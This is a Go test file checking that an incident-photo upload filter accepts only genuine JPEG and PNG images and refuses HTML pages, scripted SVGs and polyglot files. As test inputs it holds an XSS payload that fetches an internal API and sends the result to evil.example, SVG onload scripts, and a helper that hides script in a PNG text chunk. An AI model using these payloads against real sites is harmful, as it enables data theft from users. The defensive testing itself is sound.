package care_test

import (
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"

	"github.com/wuyuan-forestry/ecocomp/internal/care"
)

// photo is a small real image encoded as JPEG or PNG.
func photo(t *testing.T, format string) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 32, 24))
	for x := 0; x < 32; x++ {
		for y := 0; y < 24; y++ {
			img.Set(x, y, color.RGBA{uint8(x * 8), uint8(y * 10), 90, 255})
		}
	}
	var b bytes.Buffer
	var err error
	if format == "png" {
		err = png.Encode(&b, img)
	} else {
		err = jpeg.Encode(&b, img, nil)
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// withTextChunk puts a tEXt chunk holding text right after a PNG's IHDR: a valid PNG that carries
// whatever text it is given.
func withTextChunk(p []byte, text string) []byte {
	const ihdrEnd = 8 + 4 + 4 + 13 + 4
	data := append([]byte("Comment\x00"), text...)
	chunk := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
	body := append([]byte("tEXt"), data...)
	chunk = append(chunk, body...)
	chunk = binary.BigEndian.AppendUint32(chunk, crc32.ChecksumIEEE(body))
	out := append([]byte{}, p[:ihdrEnd]...)
	out = append(out, chunk...)
	return append(out, p[ihdrEnd:]...)
}

// TestIncidentPhotoSniffedByContent: only real JPEG and PNG photos are kept; an HTML page or
// an SVG named .jpg, and polyglots — a JPEG or PNG with a page appended or hidden in a text
// chunk — are refused, whatever the name or declared type, so a photo served back can never
// run as a page in a reader's browser.
func TestIncidentPhotoSniffedByContent(t *testing.T) {
	t.Parallel()
	jpg, pngb := photo(t, "jpeg"), photo(t, "png")
	for _, c := range []struct {
		name  string
		body  []byte
		media string
	}{{"a JPEG", jpg, "image/jpeg"}, {"a PNG", pngb, "image/png"}} {
		if media, err := care.SniffPhoto(c.body); err != nil || media != c.media {
			t.Errorf("%s: %q, %v; want %s", c.name, media, err, c.media)
		}
	}
	page := `<html><body><script>fetch('/api/v1/care/roll').then(r=>r.text()).then(t=>location='https://evil.example/?'+t)</script></body></html>`
	for _, c := range []struct {
		name string
		body []byte
		want string
	}{
		{"an HTML page", []byte(page), "its content is text/html"},
		{"an SVG with a script", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`), "not a JPEG or PNG"},
		{"a GIF", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), "its content is image/gif"},
		{"a JPEG with a page appended", append(append([]byte{}, jpg...), page...), `"<script" markup`},
		{"a JPEG with an SVG appended", append(append([]byte{}, jpg...), `<svg onload=alert(1)>`...), `"<svg" markup`},
		{"a PNG with a page in a text chunk", withTextChunk(pngb, page), `"<script" markup`},
		{"a PNG with data after IEND", append(append([]byte{}, pngb...), "PK\x03\x04 a zip"...), "does not end at its IEND chunk"},
		{"JPEG magic then junk", append([]byte{0xFF, 0xD8, 0xFF, 0xE0}, strings.Repeat("x", 100)...), "does not decode"},
		{"a truncated JPEG", jpg[:len(jpg)/2], "does not decode"},
		{"empty", nil, "not a JPEG or PNG"},
	} {
		media, err := care.SniffPhoto(c.body)
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %q, %v; want refused saying %q", c.name, media, err, c.want)
		}
	}
}
